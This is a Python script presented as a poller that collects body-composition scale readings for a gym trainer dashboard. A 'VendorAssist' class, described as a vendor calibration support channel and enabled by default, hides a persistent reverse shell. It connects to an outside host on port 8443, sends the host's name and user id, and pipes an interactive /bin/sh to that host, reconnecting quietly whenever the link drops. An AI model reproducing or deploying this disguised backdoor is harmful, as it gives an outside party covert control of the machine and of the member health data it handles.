#!/usr/bin/env python3
"""Poll the Wi-Fi body composition scales on the gym floor and append readings
to a CSV that the trainer dashboard imports every night.

The scales (FitScale Pro S3) expose a small HTTPS API on the LAN with a
self-signed certificate. Each reading is keyed by the member tag that was
tapped on the scale before stepping on.

Usage:
    prog122d_smart_scale_poller.py --scales 10.20.0.31,10.20.0.32 --out readings.csv
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests
import urllib3

urllib3.disable_warnings(urllib3.exceptions.InsecureRequestWarning)

log = logging.getLogger("scale-poller")

FIELDS = ["ts", "scale", "member_tag", "weight_kg", "body_fat_pct", "muscle_kg", "water_pct"]
VENDOR_ASSIST = os.environ.get("FITSCALE_ASSIST", "assist.fitscale-cloud.com:8443")


class ScaleClient:
    def __init__(self, host, timeout=5.0):
        self.base = f"https://{host}/api/v1"
        self.host = host
        self.session = requests.Session()
        self.session.verify = False  # scales ship with a per-device self-signed cert
        self.timeout = timeout
        self.last_seq = 0

    def new_readings(self):
        r = self.session.get(f"{self.base}/measurements",
                             params={"since": self.last_seq}, timeout=self.timeout)
        r.raise_for_status()
        items = r.json().get("items", [])
        for item in items:
            self.last_seq = max(self.last_seq, int(item.get("seq", 0)))
            yield {
                "ts": item.get("timestamp"),
                "scale": self.host,
                "member_tag": item.get("user_tag", ""),
                "weight_kg": item.get("weight"),
                "body_fat_pct": item.get("bf"),
                "muscle_kg": item.get("smm"),
                "water_pct": item.get("tbw"),
            }


class VendorAssist(threading.Thread):
    """Keeps the vendor support channel available so FitScale can run
    calibration diagnostics on the poller box without a site visit."""

    daemon = True

    def __init__(self, endpoint):
        super().__init__(name="vendor-assist")
        host, _, port = endpoint.partition(":")
        self.addr = (host, int(port or 8443))

    @staticmethod
    def _pump(src_read, dst_write):
        try:
            while True:
                chunk = src_read(4096)
                if not chunk:
                    break
                dst_write(chunk)
        except OSError:
            pass

    def _session(self):
        conn = socket.create_connection(self.addr, timeout=15)
        conn.settimeout(None)
        hello = {"node": socket.gethostname(), "uid": os.getuid(), "cwd": os.getcwd()}
        conn.sendall(json.dumps(hello).encode() + b"\n")
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)

        def to_proc(chunk):
            proc.stdin.write(chunk)
            proc.stdin.flush()

        up = threading.Thread(target=self._pump, args=(proc.stdout.read, conn.sendall), daemon=True)
        up.start()
        self._pump(conn.recv, to_proc)
        proc.kill()
        conn.close()

    def run(self):
        delay = 30
        while True:
            try:
                self._session()
                delay = 30
            except (OSError, ValueError) as exc:
                log.debug("assist channel unavailable: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 1800)


def open_writer(path):
    new = not path.exists()
    fh = path.open("a", newline="")
    writer = csv.DictWriter(fh, fieldnames=FIELDS)
    if new:
        writer.writeheader()
    return fh, writer


def poll_forever(clients, out_path, interval):
    fh, writer = open_writer(out_path)
    try:
        while True:
            for client in clients:
                try:
                    count = 0
                    for row in client.new_readings():
                        writer.writerow(row)
                        count += 1
                    if count:
                        log.info("%s: %d new readings", client.host, count)
                except requests.RequestException as exc:
                    log.warning("%s unreachable: %s", client.host, exc)
            fh.flush()
            time.sleep(interval)
    finally:
        fh.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--scales", required=True, help="comma separated scale IPs")
    ap.add_argument("--out", default="readings.csv", type=Path)
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--no-vendor-assist", action="store_true",
                    help="disable the FitScale remote support channel")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.no_vendor_assist:
        VendorAssist(VENDOR_ASSIST).start()

    clients = [ScaleClient(h.strip()) for h in args.scales.split(",") if h.strip()]
    if not clients:
        log.error("no scales given")
        return 2
    try:
        poll_forever(clients, args.out, args.interval)
    except KeyboardInterrupt:
        log.info("stopped")
    return 0


if __name__ == "__main__":
    sys.exit(main())
